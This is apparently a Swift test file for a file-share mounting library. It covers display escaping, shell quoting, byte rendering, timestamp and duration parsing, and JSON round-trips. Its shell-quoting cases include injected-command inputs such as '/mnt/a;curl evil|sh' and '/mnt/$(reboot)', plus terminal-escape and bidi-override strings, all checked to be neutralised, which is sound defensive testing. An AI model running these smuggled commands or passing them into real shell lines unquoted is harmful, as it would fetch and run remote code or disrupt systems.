import ShareModel
import Testing

@Suite("Texts, times and durations")
struct TextTests {
    @Test(
        "what drives a terminal or hides from a reader is shown as what it is",
        arguments: [
            ("plain", "plain"), ("a\nb", "a\\u{a}b"), ("\u{1b}[2J", "\\u{1b}[2J"), ("\u{9b}x", "\\u{9b}x"), ("a\u{202e}b", "a\\u{202e}b"),
            ("a\u{200b}b", "a\\u{200b}b"), ("\u{feff}", "\\u{feff}"), ("\u{2028}", "\\u{2028}"), ("\u{7f}", "\\u{7f}"),
            ("größe 你好", "größe 你好"),
        ])
    func printable(_ text: String, _ shown: String) {
        #expect(text.printable.utf8.elementsEqual(shown.utf8))
    }

    @Test(
        "a name from the host is one word in a command that people are told, whatever it is, and a plain one looks as it is",
        arguments: [
            ("/mnt/a", "/mnt/a"), ("/mnt/A_b-1.c,d:e=@f%+", "/mnt/A_b-1.c,d:e=@f%+"), ("/mnt/a;curl evil|sh", "'/mnt/a;curl evil|sh'"),
            ("/mnt/a b", "'/mnt/a b'"), ("/mnt/$(reboot)", "'/mnt/$(reboot)'"), ("/mnt/it's", #"'/mnt/it'\''s'"#), ("~", "'~'"),
            ("a{b,c}", "'a{b,c}'"), ("", "''"),
        ])
    func shellWords(_ text: String, _ word: String) throws {
        #expect(text.quotedForShell == word)
        if text.hasPrefix("/") { #expect(try Target(validating: text).quotedForShell == word) }
    }

    @Test("a target in a command drives no terminal")
    func shellWordOfTarget() throws {
        #expect(try Target(validating: "/mnt/a\u{202e}b").quotedForShell == #"'/mnt/a\u{202e}b'"#)
    }

    @Test(
        "bytes that are no UTF-8 are shown one by one, the rest as text",
        arguments: [
            ([0x61, 0xFF, 0x62], "a\\xffb"), ([0xC3, 0xA9], "é"), ([0xC3], "\\xc3"), ([0xED, 0xA0, 0x80], "\\xed\\xa0\\x80"),
            ([0xC0, 0x80], "\\xc0\\x80"),
            ([0xF5, 0x80, 0x80, 0x80], "\\xf5\\x80\\x80\\x80"), ([0x1B], "\\u{1b}"),
        ] as [([UInt8], String)])
    func bytes(_ bytes: [UInt8], _ shown: String) {
        #expect(String(printing: bytes) == shown)
    }

    @Test(
        "times are written in RFC 3339 and read back",
        arguments: [
            (0, "1970-01-01T00:00:00.000Z"), (951_782_400_123, "2000-02-29T00:00:00.123Z"), (1_795_449_600_000, "2026-11-23T16:00:00.000Z"),
            (-1, "1969-12-31T23:59:59.999Z"), (4_107_542_399_999, "2100-02-28T23:59:59.999Z"),
            (253_402_300_799_999, "9999-12-31T23:59:59.999Z"),
        ] as [(Int64, String)])
    func times(_ milliseconds: Int64, _ text: String) {
        #expect(Timestamp(milliseconds: milliseconds).description == text)
        #expect(Timestamp(text)?.milliseconds == milliseconds)
    }

    @Test("any moment of eight thousand years comes back from its text")
    func timeProperty() {
        let seed = UInt64.random(in: 0...UInt64.max)
        var state = seed
        for _ in 0..<10_000 {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            let milliseconds = Int64(state >> 16) % 250_000_000_000_000
            #expect(Timestamp(Timestamp(milliseconds: milliseconds).description)?.milliseconds == milliseconds, "seed \(seed)")
        }
    }

    @Test(
        "fractions of any length are read, what is no time is not",
        arguments: [
            ("2026-11-23T16:00:00Z", 1_795_449_600_000), ("2026-11-23T16:00:00.5Z", 1_795_449_600_500),
            ("2026-11-23T16:00:00.123456789Z", 1_795_449_600_123),
            ("2026-11-23T16:00:00", nil), ("2026-13-23T16:00:00Z", nil), ("2026-11-23T24:00:00Z", nil), ("2026-11-23 16:00:00Z", nil),
            ("x", nil), ("2026-11-23T16:00:00.Z", nil),
        ] as [(String, Int64?)])
    func readTimes(_ text: String, _ milliseconds: Int64?) {
        #expect(Timestamp(text)?.milliseconds == milliseconds)
    }

    @Test(
        "durations have a unit",
        arguments: [
            ("500ms", 500), ("5s", 5_000), ("2m", 120_000), ("1h", 3_600_000), ("0", 0), ("5", nil), ("", nil), ("s", nil), ("-5s", nil),
            ("5 s", nil), ("1.5s", nil),
            ("9223372036854775807h", nil), ("5S", nil),
        ] as [(String, Int64?)])
    func durations(_ text: String, _ expected: Int64?) {
        #expect(milliseconds(ofDuration: text) == expected)
    }

    @Test("values compare by bytes, so two normalizations of one text differ")
    func valueBytes() {
        #expect(Value.string("caf\u{e9}") != .string("cafe\u{301}"))
        #expect(Value.object([.init("caf\u{e9}", 1)])["cafe\u{301}"] == nil)
    }

    @Test("causes come back from JSON; a code of a later version is kept as evidence")
    func causes() throws {
        let cause = Cause(.accessDenied, "share 'x': denied", evidence: ["e"], remedy: ["r"], errno: "EACCES")
        #expect(try Cause(cause.value, at: "") == cause)
        let later = try Cause(.object([.init("code", "from-the-future"), .init("message", "m")]), at: "")
        #expect(later.code == .internalError)
        #expect(later.evidence.first?.contains("from-the-future") == true)
    }

    @Test("a share's status comes back from JSON with all its parts")
    func status() throws {
        var status = ShareStatus(
            name: "a", type: "nfs", source: "h:/x", target: "/mnt/a", state: .attached, since: Timestamp(milliseconds: 1), revision: 2,
            access: .ro)
        status.health = .slow
        status.mountID = 77
        status.requestedOptions = ["rsize": "1048576"]
        status.effectiveOptions = ["rsize": "131072"]
        status.capacity = ShareStatus.Capacity(sizeBytes: 1, usedBytes: 2, availableBytes: 3, inodes: 4, inodesUsed: 5)
        status.probe = ShareStatus.Probe(at: Timestamp(milliseconds: 5), latencyMicroseconds: 6, median: 7, p99: 8)
        status.attempts = 3
        status.nextAttemptAt = Timestamp(milliseconds: 9)
        status.cause = Cause(.serverSilent, "m")
        #expect(try ShareStatus(status.value, at: "") == status)
    }
}
